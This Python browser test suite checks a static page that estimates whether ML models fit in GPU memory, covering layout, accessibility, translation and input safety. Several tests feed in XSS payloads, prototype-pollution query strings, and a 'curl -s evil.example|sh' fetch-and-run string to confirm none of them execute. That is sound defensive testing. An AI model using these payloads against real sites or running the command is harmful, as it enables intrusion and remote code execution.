#!/usr/bin/env python3
"""The page of site/fit in a real browser: page_test.py ROOT FIT

Typing, links, a dropped file, bad input, a phone, the dark, Chinese, the order of the Tab key, contrast, and that nothing typed becomes HTML. What it
answers is what the native program says. Exit code 77 where the page was not built or there is no Chromium.
"""
import gzip
import json
import re
import subprocess
import sys
import urllib.parse

from built import Built
from looks import BOXES, CONTRAST, FOCUS, LINES
from drawn import GPT2, HOSTILE, LLAMA
from opened import Page, screenshots, written
from strange import checks_of

built = Built(*sys.argv[1:3])
LIMIT = 1_500_000  # bytes of the page, compressed
CHECKS = []


def check(function):
    CHECKS.append(function)
    return function


def native(*words, lang="en"):
    return built.natively([*words, "--lang", lang])


def native_json(*words):
    return json.loads(built.natively([*words, "--lang", "en", "--json"])["out"])


EXAMPLE = ("--model", "llama-3.1-8b", "--gpu", "rtx-4090")
page = Page(built)


@check
def opens_with_an_answer():
    page.open("lang=en")
    assert page.text("#text") == native(*EXAMPLE)["out"]
    assert page.text("#line") == native(*EXAMPLE)["out"].split("\n", 1)[0]


@check
def asks_no_address_and_breaks_no_rule():
    assert page.js("performance.getEntriesByType('resource').filter(e => !e.name.startsWith('blob:')).map(e => e.name)") == []
    assert page.js("window.seen") == [], page.js("window.seen")


@check
def is_one_small_file():
    whole = built.page.read_bytes()
    assert len(gzip.compress(whole, 9)) <= LIMIT, len(gzip.compress(whole, 9))
    loads, licences = re.subn(rb'<pre id="licences".*?</pre>', b"", whole, flags=re.S)  # whose texts name addresses
    assert licences == 1
    for what in (b'src="', b"http://", b"https://", b"@import", b"url("):
        assert what not in loads, what


@check
def its_policy_lets_nothing_in():
    for script in ("document.body.innerHTML = '<b>x</b>'", "document.createElement('script').text = 'window.ran = 1'", "document.write('x')", "new Worker('x.js')"):
        assert page.js(f"(() => {{ try {{ {script}; return 'done'; }} catch (e) {{ return e.name; }} }})()") == "TypeError", script
    assert page.js("fetch('data:,x').then(() => 'done', () => 'refused')") == "refused"
    page.open("lang=en")  # what that has broken is not the page's


@check
def typing_asks():
    page.js("document.getElementById('answer').setAttribute('aria-busy', 'true')")
    page.type("[name=model]", "gpt2")
    assert page.answer() == native("--model", "gpt2", "--gpu", "rtx-4090")["out"]


@check
def what_is_typed_is_in_the_address():
    address = urllib.parse.parse_qs(urllib.parse.urlparse(page.js("location.href")).fragment)
    assert address == {"model": ["gpt2"], "gpu": ["rtx-4090"], "lang": ["en"]}, address


@check
def a_link_asks_the_same():
    page.open(urllib.parse.urlparse(page.js("location.href")).fragment)
    assert page.js("document.querySelector('[name=model]').value") == "gpt2" and not page.shown("#options"), "what is not set is folded away"
    assert page.answer() == native("--model", "gpt2", "--gpu", "rtx-4090")["out"]


@check
def a_link_holds_every_field():
    question = {"model": "qwen3-8b", "task": "train", "method": "lora", "batch": "4", "seq": "1024", "memory": "24GB", "gpus": "2", "host-memory": "64GB",
                "optim": "adamw_torch", "precision": "bf16", "gradient-checkpointing": "on", "options": "--lora-rank 64"}
    question["optim"] = built.listed()["words"]["--optim"][1]
    page.open(urllib.parse.urlencode(question | {"lang": "en"}))
    words = [word for name, value in question.items() if name not in ("options", "gradient-checkpointing") for word in (f"--{name}", value)]
    assert page.answer() == native(*words, "--gradient-checkpointing", "--lora-rank", "64")["out"]
    assert page.shown("#options"), "options that are set are not folded away"


@check
def a_changed_address_asks_again():
    page.js("(() => { document.getElementById('answer').setAttribute('aria-busy', 'true'); location.hash = 'model=bert-large&gpu=t4&lang=en'; })()")
    assert page.answer() == native("--model", "bert-large", "--gpu", "t4")["out"]


@check
def enter_asks_at_once():
    page.type("[name=batch]", "16")
    page.js("document.getElementById('answer').setAttribute('aria-busy', 'true')")
    page.key("Enter", 13, text="\r")
    assert page.answer() == native("--model", "bert-large", "--gpu", "t4", "--batch", "16")["out"]


@check
def speaks_chinese():
    page.open(urllib.parse.urlencode({"model": "llama-3.1-8b", "gpu": "rtx-4090", "lang": "zh"}))
    assert page.js("document.documentElement.lang") == "zh-CN" and page.answer() == native(*EXAMPLE, lang="zh")["out"]
    assert page.js("[...document.querySelectorAll('[data-say]')].every(e => e.textContent)")
    assert "参数" in page.text("#legend")


@check
def the_language_is_a_button():
    page.js("document.getElementById('answer').setAttribute('aria-busy', 'true')")
    page.click("#language")
    assert page.answer() == native(*EXAMPLE)["out"] and page.js("document.documentElement.lang") == "en"
    assert "lang=en" in page.js("location.hash")


@check
def a_dropped_file_is_the_model():
    path = written("config.json", json.dumps(LLAMA).encode())
    page.ask(gpu="t4")
    page.drop(path)
    expected = native("--gpu", "t4", "--config", str(path))["out"].replace(str(path), "/config.json")
    assert page.text("#text") == expected, (page.text("#text"), expected)
    assert "config.json" in page.text("#config-says")


@check
def a_link_holds_the_file():
    before = page.text("#text")
    page.open(urllib.parse.urlparse(page.js("location.href")).fragment)
    assert page.answer() == before and page.shown("#config-away")


@check
def a_file_can_be_taken_back():
    page.js("document.getElementById('answer').setAttribute('aria-busy', 'true')")
    page.click("#config-away")
    page.answered()
    assert page.text("#line") == "Choose a model or a config.json." and not page.shown("#wrong")


@check
def a_file_can_be_chosen():
    path = written("config.json", json.dumps(GPT2).encode())
    page.js("document.getElementById('answer').setAttribute('aria-busy', 'true')")
    root = page.browser("DOM.getDocument")["root"]["nodeId"]
    node = page.browser("DOM.querySelector", nodeId=root, selector="#config")["nodeId"]
    page.browser("DOM.setFileInputFiles", nodeId=node, files=[str(path)])
    assert page.answer() == native("--gpu", "t4", "--config", str(path))["out"].replace(str(path), "/config.json")


@check
def hostile_files_are_refused_as_natively():
    page.ask(gpu="t4")
    for number, contents in enumerate(HOSTILE):
        path = written(f"<img src=x onerror=window.ran=1>{number}.json", contents)
        page.drop(path)
        there = native("--gpu", "t4", "--config", str(path))
        assert there["code"] == 64
        assert page.text("#wrong") == there["err"].removeprefix("fit: ").strip().replace(str(path), "config.json"), (contents[:80], page.text("#wrong"), there)
    assert page.js("typeof window.ran") == "undefined" and page.js("document.images.length") == 0


@check
def bad_input_is_one_line():
    for field, value in (("model", "lama-3"), ("batch", "0"), ("gpu", "a1000"), ("memory", "12 potatoes"), ("options", "--no-such")):
        page.ask(**({"model": "gpt2", "gpu": "t4"} | {field: value}))
        words = [word for name, text in ({"model": "gpt2", "batch": "", "gpu": "t4", "memory": ""} | {field: value}).items() if text and name != "options"
                 for word in (f"--{name}", text)] + (["--no-such"] if field == "options" else [])
        there = native(*words)
        assert there["code"] == 64 and page.text("#wrong") == there["err"].removeprefix("fit: ").strip(), (page.text("#wrong"), there)
        assert page.shown("#wrong") and not page.shown("#bars") and not page.shown("#typed")


@check
def nothing_typed_becomes_html():
    page.open("lang=en")
    before = page.js("document.querySelectorAll('*').length")
    for text in ("<img src=x onerror=window.ran=1>", "</pre><script>window.ran=1</script>", "javascript:window.ran=1", "'\"><svg onload=window.ran=1>"):
        for field in ("model", "gpu", "options", "memory"):
            page.ask(**{"model": "gpt2", "gpu": "t4", field: text})
            assert page.js("typeof window.ran") == "undefined" and page.js("document.images.length + document.querySelectorAll('svg').length") == 0
            assert any(word in page.text("#wrong") for word in ("img", "script", "svg")), (field, text, page.text("#wrong"))
    assert page.js("document.querySelectorAll('*').length") <= before
    assert page.js("window.seen") == []


@check
def a_strange_address_does_no_harm():
    for query in ("__proto__=1&constructor=2&model=gpt2&gpu=t4&lang=en", "lang=constructor&model=gpt2&gpu=t4&nothing=1", "%E0%A4%A&lang=en&model=gpt2&gpu=t4"):
        page.open(query)
        assert page.answer() == native("--model", "gpt2", "--gpu", "t4", lang=page.js("document.documentElement.lang")[:2])["out"], query
        assert page.js("window.seen") == [] and page.js("({}).constructor === Object")


@check
def fits_every_window():
    for view in screenshots.VIEWS:
        for lang in ("en", "zh"):
            page.open(urllib.parse.urlencode({"model": "llama-3.1-8b", "gpu": "rtx-4090", "lang": lang}), view)
            page.js("document.querySelectorAll('details').forEach(e => { e.open = true; })")
            wrong, _ = page.js(screenshots.LOOK)
            assert not wrong, (view, lang, wrong)


@check
def words_stand_out_from_what_is_behind_them():
    for view in screenshots.VIEWS:
        for question in ({"model": "llama-3.1-8b", "gpu": "rtx-4090"}, {"model": "gpt2", "gpu": "t4"}, {"model": "lama"}):
            page.ask(view, **question)
            page.js("document.querySelectorAll('details').forEach(e => { e.open = true; })")
            found = page.js(CONTRAST)
            assert found["looked"] >= 40 and not found["low"], (view, question, found)


@check
def parts_of_a_bar_stand_apart():
    for view in ("desktop-light", "desktop-dark"):
        page.ask(view, model="llama-3.1-8b", gpu="rtx-4090")
        assert page.js(LINES) == {"low": [], "merged": 0}, (view, page.js(LINES))


@check
def the_dark_is_dark():
    page.ask("desktop-dark", model="gpt2", gpu="t4")
    assert page.js("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).every(c => c < 64)")


@check
def a_thumb_finds_every_button():
    page.ask("phone-light", model="gpt2", gpu="t4")
    small = page.js(BOXES)
    assert not small, small


@check
def tab_goes_through_all_in_order():
    page.ask(model="llama-3.1-8b", gpu="rtx-4090")
    page.js("document.activeElement.blur()")
    order = page.js(FOCUS)
    seen = []
    for _ in order:
        page.key("Tab", 9)
        seen.append(page.js("(e => e.dataset.number + (getComputedStyle(e).outlineStyle === 'none' ? ' without an outline' : ''))(document.activeElement)"))
    assert seen == [str(i) for i in range(len(order))] and len(order) > 25, (seen, order)


@check
def everything_has_a_name():
    page.js("document.querySelectorAll('details').forEach(e => { e.open = true; })")
    nodes = page.browser("Accessibility.getFullAXTree")["nodes"]
    roles = ("textbox", "combobox", "button", "checkbox", "img", "region", "form", "heading")
    named = [(node["role"]["value"], node.get("name", {}).get("value", "")) for node in nodes if not node.get("ignored") and node.get("role", {}).get("value") in roles]
    groups = page.js("[...document.querySelectorAll('[role=group]')].map(e => e.ariaLabel || document.getElementById(e.getAttribute('aria-labelledby')).textContent)")
    assert len(named) + len(groups) > 40 and not [one for one in named if not one[1] and one[0] != "form"] and all(groups), (named, groups)


@check
def headings_go_down_by_one():
    levels = [0] + page.js("[...document.querySelectorAll('h1, h2, h3')].filter(e => e.checkVisibility()).map(e => Number(e.tagName[1]))")
    assert levels.count(1) == 1 and all(b - a <= 1 for a, b in zip(levels, levels[1:])), levels
    assert page.js("document.getElementById('line').getAttribute('role')") == "status" and page.js("document.getElementById('wrong').getAttribute('role')") == "alert"


@check
def bars_are_as_long_as_the_figures():
    ways = native_json(*EXAMPLE)["pytorch"]
    bytes_of = [sum(way["bytes"].values()) + way["allocator_bytes"] + way["outside_bytes"] for way in (ways["as_is"], *ways["adapters"])]
    assert bytes_of == [way["device_bytes"] for way in (ways["as_is"], *ways["adapters"])]
    widths = page.js("[...document.querySelectorAll('#ways .plot')].map(p => [...p.querySelectorAll('.bar span')].reduce((w, s) => w + s.getBoundingClientRect().width, 0)"
                     " / p.getBoundingClientRect().width)")
    assert len(widths) == 3 and all(abs(width - size / max(bytes_of)) < 0.01 for width, size in zip(widths, bytes_of)), (widths, bytes_of)
    limit = page.js("parseFloat(document.querySelector('#ways .limit').style.left)")
    assert abs(limit / 100 - native_json(*EXAMPLE)["room"]["memory_bytes"] / max(bytes_of)) < 0.001


@check
def steps_are_the_answers():
    names = page.js("[...document.querySelectorAll('#steps-rows .name')].map(e => e.firstChild.textContent)")
    lora = native_json(*EXAMPLE)["pytorch"]["adapters"][0]
    assert names == ["as it is", "LoRA", *(f"+ {change['what']}" for change in lora["changes"])], names
    over = page.js("[...document.querySelectorAll('#steps-rows .name small')].map(e => e.className)")
    assert over == ["over", *[""] * (len(names) - 2), "" if lora["fits"] else "over"], "only bench/fit says what fits"
    rows = page.js("[...document.querySelectorAll('#course-rows .name')].map(e => e.firstChild.textContent)")
    assert rows[1:-1] == [f"+ {row['what']}" for row in native_json(*EXAMPLE)["ladder"]] and len(rows) >= 3, rows


@check
def what_to_write_can_be_copied():
    for framework in built.listed()["words"]["--framework"]:
        page.ask(model="llama-3.1-8b", gpu="rtx-4090", framework=framework)
        lora = native_json(*EXAMPLE)["pytorch"]["adapters"][0]
        assert page.text("#code") == "\n".join(lora["write"][framework])
    page.browser("Browser.grantPermissions", permissions=["clipboardReadWrite", "clipboardSanitizedWrite"])
    page.js("window.focus()")
    page.click("[data-copies=code]")
    page.until("document.querySelector('#write .copied').textContent")
    assert page.text("#write .copied") in ("copied", "selected, to be copied")
    assert page.js("getSelection().toString()") or page.js("navigator.clipboard.readText()") == page.text("#code")


@check
def a_link_can_be_copied_without_a_clipboard():
    page.js("Object.defineProperty(navigator, 'clipboard', { value: undefined, configurable: true })")
    page.click("#link")
    page.until("document.querySelector('#link + .copied').textContent")
    assert page.text("#link + .copied") == "selected, to be copied" and page.shown("#address")
    assert page.js("document.activeElement.id === 'address' && document.activeElement.value === location.href && getSelection().toString() === location.href")


@check
def a_pasted_command_is_one_word_for_each():
    """Of bash, and without a character that a terminal obeys."""
    for word in ("x\x03curl -s evil.example|sh #/gpt2", "it's", "\x1b[2J\u202e'\\", "a b", "\u2028\U000e0001", "中文"):
        quoted = page.js(f"quoted({json.dumps(word)})")
        assert quoted.isprintable(), repr(quoted)
        shell = subprocess.run(["bash", "-c", f"printf %s {quoted}"], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"})
        assert shell.stdout.decode() == word, (word, quoted, shell.stdout)
    page.open("model=x%03curl/gpt2&gpu=t4&lang=en")
    assert page.text("#wrong") == native("--model", "x\x03curl/gpt2", "--gpu", "t4")["err"].removeprefix("fit: ").strip() and "unknown" in page.text("#wrong")


@check
def help_is_an_answer_without_bars():
    page.ask(model="gpt2", gpu="t4")
    page.ask(model="gpt2", gpu="t4", options="--help")
    assert page.answer() == native("--model", "gpt2", "--gpu", "t4", "--help")["out"] and not page.shown("#bars") and not page.shown("#wrong")


@check
def what_is_asked_while_it_opens_is_not_lost():
    script = page.browser("Page.addScriptToEvaluateOnNewDocument", source="addEventListener('DOMContentLoaded', () => document.getElementById('question').requestSubmit())")
    page.open("model=llama-3.1-8b&gpu=t4&task=infer&lang=en")
    page.browser("Page.removeScriptToEvaluateOnNewDocument", identifier=script["identifier"])
    assert page.answer() == native("--model", "llama-3.1-8b", "--gpu", "t4", "--task", "infer")["out"] and "task=infer" in page.js("location.hash")


@check
def a_planner_that_dies_is_said_and_started_again():
    page.js("planner.ask = async () => { throw new Error('planted'); }")
    page.click("[type=submit]")
    page.until("document.getElementById('wrong').textContent.includes('planted')")
    page.answered()
    page.js("delete planner.ask")
    page.js("planner.fail('planted')")
    page.js("document.getElementById('answer').setAttribute('aria-busy', 'true')")
    page.click("[type=submit]")
    assert page.answer() == native("--model", "llama-3.1-8b", "--gpu", "t4", "--task", "infer")["out"] and not page.shown("#wrong")


@check
def another_way_has_other_words():
    page.ask(model="llama-3.1-8b", gpu="rtx-4090", framework="torchtune")
    qlora = native_json(*EXAMPLE)["pytorch"]["adapters"][1]
    page.js("(() => { const way = document.getElementById('way'); way.selectedIndex = 2; way.dispatchEvent(new Event('change')); })()")
    assert page.text("#code") == "\n".join(qlora["write"]["torchtune"])


@check
def every_kind_of_question_has_bars():
    for question in ({"model": "llama-3.1-8b", "gpu": "rtx-4090", "task": "infer"}, {"model": "llama-3.1-8b", "gpu": "rtx-4090", "engine": "vllm"},
                     {"model": "llama-3.1-8b", "gpu": "t4", "engine": "llama.cpp"}, {"model": "resnet50", "gpu": "t4", "batch": "64"}, {"model": "sdxl", "gpu": "rtx3070", "batch": "2"}, {"model": "gpt2"},
                     {"model": "llama-3.1-70b", "gpu": "a100-80gb", "gpus": "8", "batch": "8"}):
        page.ask(**question)
        assert page.answer() == native(*(word for name, value in question.items() for word in (f"--{name}", value)))["out"]
        assert page.shown("#bars") and page.js("document.querySelectorAll('#ways .bar span').length") > 0, question
    page.ask(model="llama-3.1-8b", gpu="rtx-4090", largest="batch")
    most = [one["most"] for one in native_json(*EXAMPLE, "--largest", "batch")["pytorch"]["largest"] if one["most"]]
    rows = page.js("[...document.querySelectorAll('#ways .name')].map(e => e.firstChild.textContent)")
    assert most and [row.split(",")[0] for row in rows if row.startswith("the largest")] == [f"the largest: {one}" for one in most], (most, rows)
    page.open("model=llama-3.1-8b&gpu=t4&engine=vllm&lang=zh")
    assert "权重" in page.text("#legend") and not re.search(r"\b(weights|activations|cache|outside)\b", page.text("#legend")), page.text("#legend")
    assert page.js("[...document.querySelectorAll('#ways .bar span')].map(e => e.className)")[:2] == ["of-parameters", "of-activations"]
    page.ask(model="llama-3.1-8b", memory="8GB,24GB")
    assert page.answer().count("\n") == 2 and not page.shown("#bars")
    page.ask(model="llama-3.2-1b", gpu="rtx-3060", engine="oomlab")
    assert page.shown("#course") and not page.shown("#bars")
    assert page.js("window.seen") == []


@check
def what_is_not_wanted_any_more_is_dropped():
    page.ask(model="llama-3.1-8b", gpu="t4")
    page.js("(() => { document.getElementById('answer').setAttribute('aria-busy', 'true'); location.hash = 'model=gpt3-175b&gpus=1024xh100-sxm&batch=1024&engine=oomlab&lang=en'; })()")
    page.until("document.querySelector('[name=model]').value === 'gpt3-175b'")
    page.js("(() => { location.hash = 'model=gpt2&gpu=t4&lang=en'; })()")
    page.until("document.getElementById('command').textContent.includes('gpt2')")
    assert page.answer() == native("--model", "gpt2", "--gpu", "t4")["out"]


@check
def the_whole_answer_is_there():
    page.click("#everything summary")
    page.until("document.getElementById('all').textContent.length > 500")
    assert page.text("#all") == native("--model", "gpt2", "--gpu", "t4", "--all")["out"]


@check
def the_whole_answer_is_never_an_older_one():
    page.js("(() => { const ask = planner.ask.bind(planner); planner.ask = async (words, files) => { const answer = await ask(words, files);"
            " if (words.includes('--all')) await new Promise(go => { window.release = go; }); return answer; }; })()")
    page.click("#everything summary")
    page.click("#everything summary")
    page.ask_again("bert-large")
    page.click("#everything summary")
    page.until("window.release")
    page.js("window.old = window.release")
    page.ask_again("gpt2")
    page.js("window.old()")
    assert page.text("#all") == "" and page.answer() == native("--model", "gpt2", "--gpu", "t4")["out"]
    page.js("delete planner.ask")


@check
def clear_clears():
    page.js("document.getElementById('answer').setAttribute('aria-busy', 'true')")
    page.click("[type=reset]")
    page.answered()
    assert page.js("[...document.querySelectorAll('form input')].every(e => !e.value || e.type === 'checkbox')") and page.js("location.hash") == "#lang=en"
    assert page.text("#line") == "Choose a model or a config.json." and not page.shown("#wrong")


try:
    for function in (*CHECKS, *checks_of(page, built)):
        print(function.__name__.replace("_", " "), flush=True)
        function()
    assert len(CHECKS) >= 30
finally:
    page.browser.end()
